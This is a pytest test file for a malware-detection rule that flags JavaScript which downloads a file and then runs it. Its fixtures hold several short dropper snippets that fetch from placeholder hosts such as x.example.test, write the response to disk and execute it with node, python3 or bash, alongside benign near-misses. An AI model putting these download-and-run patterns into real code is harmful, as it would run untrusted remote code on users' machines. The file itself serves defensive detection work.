import pytest

from lazaretto.detect.rules.javascript.drops_and_runs import RULE

DROPPER = """\
const fs = require('fs'), cp = require('child_process');
const p = path.join(os.tmpdir(), 'a.js');
axios.get('https://x.example.test/p').then((r) => {
  fs.writeFileSync(p, r.data);
  cp.spawn('node', [p], { detached: true, stdio: 'ignore' });
});
"""


def test_written_and_started(look):
    assert look(RULE, DROPPER) == [
        (5, "HIGH", "HIGH", "starts a file that was written from what x.example.test answers")
    ]


@pytest.mark.parametrize(
    "source",
    [
        "const fs = require('fs'); const p = os.tmpdir() + '/b.js'; axios.get('https://x.test').then(r => { fs.writeFileSync(p, r.data); require(p) })",
        "const fs = require('fs'), cp = require('child_process'), https = require('https'); const p = 'x.py'; const f = fs.createWriteStream(p); https.get('https://x.test', (r) => { r.pipe(f); f.on('finish', () => cp.exec(`python3 ${p}`)) })",
    ],
)
def test_variants(look, source):
    assert [f[1:3] for f in look(RULE, source)] == [("HIGH", "MEDIUM")]


def test_an_installer_is_context(look):
    source = "const fs = require('fs'), cp = require('child_process'), https = require('https'); const f = fs.createWriteStream(bin); https.get('https://x.test', (r) => { r.pipe(f); f.on('finish', () => cp.execFileSync(bin, ['--version'])) })"
    assert [f[1] for f in look(RULE, source)] == ["LOW"]


def test_near_misses(look):
    assert look(RULE, "fs.writeFileSync('out.json', JSON.stringify(x)); cp.spawn('node', ['out.js'])") == []
    assert look(RULE, DROPPER.replace("[p]", "['other.js']")) == []


def test_a_constant_path_in_a_command_line(look):
    source = (
        "const fs = require('fs'), cp = require('child_process'), https = require('https');\n"
        "const f = fs.createWriteStream('/tmp/abc.sh');\n"
        "https.get('https://x.test', (r) => { r.pipe(f); f.on('finish', () => cp.exec('bash /tmp/abc.sh')) })\n"
    )
    assert [f[:3] for f in look(RULE, source)] == [(3, "HIGH", "MEDIUM")]
    assert look(RULE, source.replace("bash /tmp/abc.sh", "bash /tmp/other.sh")) == []


def test_downloaded_data_is_only_parsed(look):
    source = (
        "const fs = require('fs'), path = require('path'), https = require('https');\n"
        "const versions = path.join(dir, 'versions{suffix}');\n"
        "https.get(process.env.MIRROR, (r) => {{ r.pipe(fs.createWriteStream(versions)) }});\n"
        "module.exports = () => require(versions);\n"
    )
    assert look(RULE, source.format(suffix=".json")) == []
    assert [fact[1:3] for fact in look(RULE, source.format(suffix=".js"))] == [("HIGH", "MEDIUM")]
